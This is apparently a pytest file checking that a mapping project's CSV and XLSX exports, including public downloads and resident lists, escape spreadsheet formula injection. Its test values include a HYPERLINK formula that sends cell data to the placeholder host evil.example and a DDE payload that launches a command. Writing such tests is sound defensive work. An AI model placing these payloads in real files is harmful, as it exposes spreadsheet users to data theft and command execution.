"""Formula injection: no CSV or XLSX gridmap writes has a cell a spreadsheet would run.

Each writer gets a value that Excel or LibreOffice would evaluate (``=HYPERLINK(...)``,
``@SUM``, ``+``, ``-``, tab, carriage return) and must write it with a leading ``'``.
Public downloads and resident exports run on both backends.
"""

from __future__ import annotations

import csv
import io

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest
from fastapi.testclient import TestClient
from shapely import Point, box
from sqlalchemy import update

from gridmap.attach.report import AttachReport, Issue
from gridmap.io.layers import write_layer
from gridmap.problems import Problem, write_problems_csv
from gridmap.spreadsheet import FORMULA_STARTS, safe_cell
from service.api.main import create_app
from service.commands.planfiles import write_plan
from service.settings import Settings
from service.storage import models as m
from tests.service.residents_seed import (
    GRID_A1,
    password,
    residents_session,
)

LINK = '=HYPERLINK("http://evil.example/?d="&A2,"Open")'
NASTY = [LINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd", "-2+3", "\t=1+1", "\r=1+1"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_safe(cells: list[str]) -> None:
    bad = [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_STARTS)]
    assert not bad, f"formula-like cells written as they are: {bad}"


@pytest.mark.parametrize("value", NASTY)
def test_safe_cell_prefixes_every_formula_start(value):
    assert safe_cell(value) == "'" + value
    assert safe_cell("1号楼") == "1号楼" and safe_cell(-3) == -3 and safe_cell(None) is None


# --------------------------------------------------------------------------- files (gridmap)
def _buildings() -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame(
        {"building_id": ["B1", "B2", "B3"], "name": [LINK, "-1号楼", "3号楼"],
         "households": [10, 20, 30]},
        geometry=[Point(109.18, 27.72), Point(109.181, 27.72), Point(109.182, 27.72)],
        crs="EPSG:4326",
    )  # fmt: skip


def test_write_layer_csv_is_safe(tmp_path):
    path = write_layer(_buildings(), tmp_path / "buildings.csv")
    text = path.read_text(encoding="utf-8")
    _assert_safe(_cells(text))
    assert "'" + LINK in pd.read_csv(path)["name"].tolist()
    assert pd.read_csv(path)["households"].tolist() == [10, 20, 30]  # numbers stay numbers


def test_write_layer_xlsx_has_no_formula(tmp_path):
    path = write_layer(_buildings(), tmp_path / "buildings.xlsx")
    sheet = openpyxl.load_workbook(path).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    _assert_safe([c.value for c in cells])


def test_import_report_csv_is_safe(tmp_path):
    report = AttachReport([Issue("building", LINK, "unknown building", "+cmd"),
                           Issue("person", "@x", "bad id", "-")])  # fmt: skip
    text = report.to_csv(tmp_path / "report.csv").read_text(encoding="utf-8-sig")
    _assert_safe(_cells(text))
    assert "'" + LINK in _cells(text)


def test_partition_assignments_csv_is_safe(tmp_path):
    square = box(109.17, 27.71, 109.19, 27.73)
    grids = gpd.GeoDataFrame({"grid_code": ["520602001001001"]}, geometry=[square], crs=4326)
    assignments = pd.DataFrame(
        {"building_id": [LINK, "=1+2"], "grid_code": ["520602001001001"] * 2}
    )
    out = tmp_path / "assign.csv"
    write_plan(grids, ["grid_code"], assignments, out=tmp_path / "g.geojson", assignments_out=out)
    _assert_safe(_cells(out.read_text(encoding="utf-8")))


def test_problems_csv_is_safe(tmp_path):
    problem = Problem("street_crossed", "Street crosses the grid", grid_code="520602001001001",
                      streets=(LINK, "-路"), compounds=("@c1",))  # fmt: skip
    out = tmp_path / "problems.csv"
    write_problems_csv([problem], out)
    cells = _cells(out.read_text(encoding="utf-8-sig"))
    _assert_safe(cells)
    assert any(c.startswith("'" + LINK) for c in cells)


# --------------------------------------------------------------------------- service outputs
@pytest.fixture
def api(store_url, monkeypatch):
    with residents_session(store_url, monkeypatch) as s:
        building = update(m.Building).where(m.Building.id == "B00110")
        s.execute(building.values(name=LINK, address="-1 路"))
        s.execute(update(m.Person).where(m.Person.id == "pA1").values(name=LINK, tags="@SUM(1)"))
    with TestClient(create_app(Settings(database_url=store_url))) as client:
        yield client


def test_public_download_csv_is_safe(api):
    r = api.get(f"/downloads/grids/{GRID_A1}/buildings.csv")
    assert r.status_code == 200
    cells = _cells(r.content.decode("utf-8-sig"))
    _assert_safe(cells)
    assert "'" + LINK in cells


def test_residents_csv_is_safe_masked_and_revealed(api):
    token = api.post("/auth/token", data={"username": "dadmin", "password": password("dadmin")})
    headers = {"Authorization": f"Bearer {token.json()['access_token']}"}
    masked = api.get(f"/grids/{GRID_A1}/residents.csv", headers=headers)
    assert masked.status_code == 200
    _assert_safe(_cells(masked.content.decode("utf-8-sig")))
    full = api.post(f"/grids/{GRID_A1}/residents.csv", headers=headers,
                    json={"reason": "annual census check"})  # fmt: skip
    assert full.status_code == 200
    cells = _cells(full.content.decode("utf-8-sig"))
    _assert_safe(cells)
    assert "'" + LINK in cells
